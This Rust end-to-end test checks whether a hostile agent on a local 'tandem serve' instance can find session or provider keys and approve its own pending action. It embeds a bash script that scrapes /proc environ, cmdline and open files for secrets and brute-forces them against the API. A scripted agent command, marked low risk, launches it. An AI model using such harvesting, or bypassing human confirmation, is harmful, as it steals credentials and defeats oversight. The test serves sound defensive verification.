//! A hostile agent on a local `tandem serve`: the agent's command searches everything its user
//! can read for keys and tries each against the API, to approve its own pending action.
//!
//! The server gets its keys every way a person gives them: a session key in
//! `TANDEM_SESSION_KEY`, one on the command line (`--session-key`) and one in a
//! `--session-key-file`; provider keys (`LLM_API_KEY`, `OPENAI_API_KEY`, `ANTHROPIC_API_KEY`) in
//! its environment; an MCP server configured with a token; and it logs at debug level into a
//! file. Locally the agent runs as the same user (here root, which reads every file), so the
//! key file is removed once the server is up: it stands for a file kept where the agent's user
//! cannot read it, which is what README asks of a key file. Searched: the agent's own
//! environment, every `/proc/*/environ` and `/proc/*/cmdline` (the server's included), every
//! regular file open in any process (`/proc/*/fd`: the server's log, event files), and
//! `$TANDEM_HOME` and the workspace. Out of scope: process memory (`/proc/*/mem`, ptrace). An
//! MCP server has its configured token in its own environment by design, where a same-user agent
//! can read it: only the sandbox (another uid) hides that, so the token is checked to be absent
//! from the agent's environment and masked for the model, not absent from `/proc`.

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::json;
use tandem_e2e::{Child, api, free_port, tandem_bin, wait_healthy};
use tandem_testkit::{ScriptedLlmServer, Step, ToolCallSpec};

/// Guards against hangs only; nothing here measures speed.
const HANG: Duration = Duration::from_secs(180);

/// The attacker: waits for `go`, gathers every string that could be a key, then tries each as
/// the session key on the API (approve the pending action; list conversations).
const HOSTILE: &str = r#"#!/usr/bin/env bash
url="$1"; out="$2"; shift 2
for _ in $(seq 1 600); do [ -f "$out/go" ] && break; sleep 0.2; done
conv=$(cat "$out/conv")
env > "$out/agent-env.txt"
{
  env
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\0' '\n' < "$f" 2>/dev/null; echo; done
  for f in /proc/[0-9]*/fd/*; do
    [ -f "$f" ] && timeout 2 head -c 262144 "$f" 2>/dev/null; echo
  done
  for d in "$@"; do grep -rIhoa '[A-Za-z0-9_.:-]\{8,\}' "$d" 2>/dev/null; done
} | tr ' ="'"'"',;' '\n\n\n\n\n\n' | grep -Eo '[A-Za-z0-9_.:-]{8,160}' | sort -u > "$out/candidates.txt"
cfg="$out/curl.cfg"; : > "$cfg"
n=0
while IFS= read -r k; do
  n=$((n+1))
  printf 'url = "%s/api/conversations/%s/events/respond_to_confirmation"\nrequest = "POST"\nheader = "X-Session-API-Key: %s"\nheader = "Content-Type: application/json"\ndata = "{\\"accept\\": true}"\noutput = "/dev/null"\nwrite-out = "%%{http_code} approve %s\\n"\nnext\n' "$url" "$conv" "$k" "$n" >> "$cfg"
  printf 'url = "%s/api/conversations/search"\nheader = "X-Session-API-Key: %s"\noutput = "/dev/null"\nwrite-out = "%%{http_code} list %s\\n"\nnext\n' "$url" "$k" "$n" >> "$cfg"
done < "$out/candidates.txt"
printf 'url = "%s/api/conversations/search"\noutput = "/dev/null"\nwrite-out = "%%{http_code} list no-key\\n"\n' "$url" >> "$cfg"
curl -s -m 600 -K "$cfg" > "$out/attempts.txt" 2>&1
echo "$n" > "$out/done"
"#;

fn unique(prefix: &str) -> String {
    format!("{prefix}-{}", uuid::Uuid::new_v4().simple())
}

async fn status_of(http: &reqwest::Client, base: &str, id: &str, key: &str) -> String {
    let (_, info) = api(
        http,
        reqwest::Method::GET,
        &format!("{base}/api/conversations/{id}"),
        key,
        None,
    )
    .await;
    info["execution_status"].as_str().unwrap_or("").to_owned()
}

async fn wait_for(http: &reqwest::Client, base: &str, id: &str, key: &str, want: &str) {
    let start = Instant::now();
    loop {
        let s = status_of(http, base, id, key).await;
        if s == want {
            return;
        }
        assert!(start.elapsed() < HANG, "never reached {want} (now {s})");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
}

fn wait_file(path: &Path) {
    let start = Instant::now();
    while !path.exists() {
        assert!(start.elapsed() < HANG, "{} never appeared", path.display());
        std::thread::sleep(Duration::from_millis(200));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_hostile_agent_finds_no_key_and_approves_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    let ws = dir.path().join("ws");
    let report = dir.path().join("report");
    for d in [&home, &ws, &report] {
        std::fs::create_dir_all(d).unwrap();
    }
    let key_env = unique("sk-session-env");
    let key_flag = unique("sk-session-flag");
    let key_file = unique("sk-session-file");
    let llm_key = unique("sk-llm");
    let openai_key = unique("sk-openai");
    let anthropic_key = unique("sk-ant");
    let mcp_token = unique("mcp-token");
    let keys = [&key_env, &key_flag, &key_file];
    let provider_keys = [&llm_key, &openai_key, &anthropic_key];

    std::fs::write(ws.join("hostile.sh"), HOSTILE).unwrap();
    let all_values: Vec<&String> = keys
        .iter()
        .chain(&provider_keys)
        .copied()
        .chain([&mcp_token])
        .collect();
    // Should the values reach an output anyway (here the model writes them into its own
    // command, and the MCP server's token is read from its /proc environ), the model and the
    // timeline must still never see them.
    let spoken = all_values
        .iter()
        .map(|v| v.as_str())
        .collect::<Vec<_>>()
        .join(" ");

    let port = free_port().unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let script = vec![
        // Approved by the person: a command that shows the values and starts the attack.
        Step::Reply(tandem_testkit::Reply::tool_calls(vec![ToolCallSpec::new(
            "terminal",
            json!({"command": format!(
                "echo {spoken}; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a SERVICE_TOKEN; (bash hostile.sh {base} {} {} {} > {}/hostile.log 2>&1 &)",
                report.display(), home.display(), ws.display(), report.display()
            ), "security_risk": "LOW"}),
        )])),
        // Waits for approval, which only the hostile command could give.
        Step::tool_call(
            "terminal",
            json!({"command": "touch approved-by-the-agent", "security_risk": "HIGH"}),
        ),
        Step::tool_call("finish", json!({"message": "done"})),
    ];
    let llm =
        ScriptedLlmServer::start(tandem_testkit::Script::new(script).with_no_tools_text("A title"));

    let key_path = dir.path().join("session.key");
    std::fs::write(&key_path, format!("{key_file}\n")).unwrap();
    let log = dir.path().join("server.log");
    let mut cmd = Command::new(tandem_bin().unwrap());
    cmd.args(["serve", "--host", "127.0.0.1", "--port", &port.to_string()])
        .arg("--session-key")
        .arg(&key_flag)
        .arg("--session-key-file")
        .arg(&key_path)
        .env("TANDEM_HOME", &home)
        .env("TANDEM_LOG", "debug")
        .env("TANDEM_SESSION_KEY", &key_env)
        .env("LLM_API_KEY", &llm_key)
        .env("OPENAI_API_KEY", &openai_key)
        .env("ANTHROPIC_API_KEY", &anthropic_key)
        .env_remove("TANDEM_SESSION_KEYS")
        .env_remove("LLM_MODEL")
        .env_remove("LLM_BASE_URL")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::from(std::fs::File::create(&log).unwrap()));
    let mut server = Child::spawn("tandem serve", cmd).unwrap();
    wait_healthy(
        &format!("{base}/health"),
        Duration::from_secs(60),
        &mut server,
        Duration::from_millis(20),
    )
    .unwrap();
    std::fs::remove_file(&key_path).unwrap();

    // What every process of this user sees of the server.
    let pid = server.pid();
    let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap();
    for v in keys.iter().chain(&provider_keys) {
        let needle = v.as_bytes();
        assert!(
            !environ.windows(needle.len()).any(|w| w == needle),
            "the server's /proc environ holds {v}"
        );
        assert!(
            !cmdline.windows(needle.len()).any(|w| w == needle),
            "the server's /proc cmdline holds {v}"
        );
    }
    assert!(
        !String::from_utf8_lossy(&cmdline).contains("session.key"),
        "the key file's path stays off the command line"
    );

    // Every key works for the person; the provider key comes from the held environment.
    let http = reqwest::Client::new();
    for k in keys {
        let (s, _) = api(
            &http,
            reqwest::Method::GET,
            &format!("{base}/api/conversations/search"),
            k,
            None,
        )
        .await;
        assert_eq!(s, 200, "the key {k} opens the API");
    }
    let mut mcp = json!({"mcpServers": {
        "tokened": {"command": "/nonexistent/mcp-server", "env": {"SERVICE_TOKEN": mcp_token}},
    }});
    if let Some(dir) = tandem_testkit::mcp_servers::servers_dir() {
        mcp["mcpServers"]["tokened"] = json!({
            "command": "node",
            "args": [tandem_testkit::mcp_servers::entry(&dir, "server-everything")],
            "env": {"SERVICE_TOKEN": mcp_token},
        });
    }
    let (s, info) = api(
        &http,
        reqwest::Method::POST,
        &format!("{base}/api/conversations"),
        &key_env,
        Some(json!({
            "agent": {
                "llm": {"model": "openai/scripted", "base_url": llm.base_url(), "num_retries": 0, "usage_id": "agent"},
                "tools": [{"name": "terminal", "params": {}}],
                "mcp_config": mcp,
                "kind": "Agent",
            },
            "workspace": {"kind": "LocalWorkspace", "working_dir": ws.to_string_lossy()},
            "confirmation_policy": {"kind": "AlwaysConfirm"},
        })),
    )
    .await;
    assert_eq!(s, 201, "{info}");
    let id = info["id"].as_str().unwrap().to_owned();
    // The attacker is told where the API is and which conversation is its own.
    std::fs::write(report.join("conv"), &id).unwrap();
    let conv_url = |p: &str| format!("{base}/api/conversations/{id}{p}");
    let (s, b) = api(
        &http,
        reqwest::Method::POST,
        &conv_url("/events"),
        &key_env,
        Some(json!({"role": "user", "content": [{"type": "text", "text": "go"}], "run": true})),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    wait_for(&http, &base, &id, &key_env, "waiting_for_confirmation").await;
    // The person approves the first command (it looks harmless).
    let (s, b) = api(
        &http,
        reqwest::Method::POST,
        &conv_url("/events/respond_to_confirmation"),
        &key_env,
        Some(json!({"accept": true})),
    )
    .await;
    assert_eq!(s, 200, "{b}");
    // The second action waits for the person; now the attacker strikes.
    let start = Instant::now();
    loop {
        let s = status_of(&http, &base, &id, &key_env).await;
        let (_, page) = api(
            &http,
            reqwest::Method::GET,
            &conv_url("/events/search?limit=100"),
            &key_env,
            None,
        )
        .await;
        let actions = page["items"]
            .as_array()
            .map(|a| a.iter().filter(|e| e["kind"] == "ActionEvent").count())
            .unwrap_or(0);
        if s == "waiting_for_confirmation" && actions == 2 {
            break;
        }
        assert!(
            start.elapsed() < HANG,
            "the second action never waited (now {s})"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    std::fs::write(report.join("go"), "").unwrap();
    let done = report.join("done");
    tokio::task::spawn_blocking(move || wait_file(&done))
        .await
        .unwrap();

    // It found nothing: no key in its environment, nor among every string it could read.
    let agent_env = std::fs::read_to_string(report.join("agent-env.txt")).unwrap();
    for v in &all_values {
        assert!(!agent_env.contains(v.as_str()), "the agent's env holds {v}");
    }
    let candidates = std::fs::read_to_string(report.join("candidates.txt")).unwrap();
    let tried: usize = std::fs::read_to_string(report.join("done"))
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    assert!(tried > 100, "the attacker tried only {tried} strings");
    for v in keys.iter().chain(&provider_keys) {
        assert!(
            !candidates.lines().any(|c| c.contains(v.as_str())),
            "the attacker found {v}"
        );
    }
    // And approved nothing: every attempt was refused.
    let attempts = std::fs::read_to_string(report.join("attempts.txt")).unwrap();
    let refused = attempts.lines().filter(|l| l.starts_with("401 ")).count();
    assert_eq!(
        refused,
        2 * tried + 1,
        "every attempt is refused:\n{}",
        attempts
            .lines()
            .filter(|l| !l.starts_with("401 "))
            .take(20)
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert_eq!(
        status_of(&http, &base, &id, &key_env).await,
        "waiting_for_confirmation"
    );
    assert!(!ws.join("approved-by-the-agent").exists());

    // Second line: nothing the server knows reached the model or the timeline.
    let requests = serde_json::to_string(&llm.requests()).unwrap();
    assert!(requests.contains("<secret-hidden>"), "{requests}");
    let (_, page) = api(
        &http,
        reqwest::Method::GET,
        &conv_url("/events/search?limit=100"),
        &key_env,
        None,
    )
    .await;
    let events = page.to_string();
    for v in &all_values {
        assert!(!requests.contains(v.as_str()), "{v} reached the model");
        assert!(!events.contains(v.as_str()), "{v} is in an event");
    }
    // No key in the server's log (debug level, URIs and all).
    let log_text = std::fs::read_to_string(&log).unwrap();
    for v in keys.iter().chain(&provider_keys) {
        assert!(!log_text.contains(v.as_str()), "the log holds {v}");
    }
    drop(server);
}
